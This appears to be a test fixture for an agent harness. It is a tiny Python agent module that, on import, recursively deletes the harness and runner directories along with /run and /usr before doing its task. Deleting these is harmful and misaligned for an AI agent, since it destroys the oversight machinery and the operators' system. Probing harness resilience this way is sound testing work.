"""Tries to delete itself, the runner, its sockets and the system; then does the task."""

import shutil

from minisweagent.agents.default import DefaultAgent

for folder in ("/opt/harness", "/opt/anneal-runner", "/opt/runner", "/opt/attempt", "/run", "/usr"):
    shutil.rmtree(folder, ignore_errors=True)


class HarnessAgent(DefaultAgent):
    pass
